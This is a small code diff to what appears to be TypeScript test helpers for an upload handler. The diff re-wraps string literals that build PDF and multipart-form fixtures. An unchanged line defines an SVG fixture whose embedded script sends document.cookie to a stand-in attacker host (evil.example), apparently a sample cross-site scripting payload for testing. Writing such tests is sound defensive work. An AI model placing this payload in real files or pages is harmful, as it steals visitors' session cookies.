@@ -104,7 +104,8 @@ export function zipOf(name: string, content: string): Buffer {
 
 export const pdf = (inside = '') =>
   Buffer.from(
-    `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n${inside}\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
+    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n' +
+      `2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n${inside}\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
   );
 export const SVG =
   '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/"+document.cookie)</script></svg>';
@@ -124,7 +125,9 @@ export function bodyOf(parts: readonly Part[], boundary = 'limit'): Buffer {
   const pieces = parts.map(({ name, content, filename, type, headers = '' }) =>
     Buffer.concat([
       Buffer.from(
-        `--${boundary}\r\ncontent-disposition: form-data; name="${name}"${filename === undefined ? '' : `; filename="${filename}"`}\r\n${type === undefined ? '' : `content-type: ${type}\r\n`}${headers}\r\n`,
+        `--${boundary}\r\ncontent-disposition: form-data; ` +
+          `name="${name}"${filename === undefined ? '' : `; filename="${filename}"`}\r\n` +
+          `${type === undefined ? '' : `content-type: ${type}\r\n`}${headers}\r\n`,
       ),
       Buffer.from(content),
       Buffer.from('\r\n'),
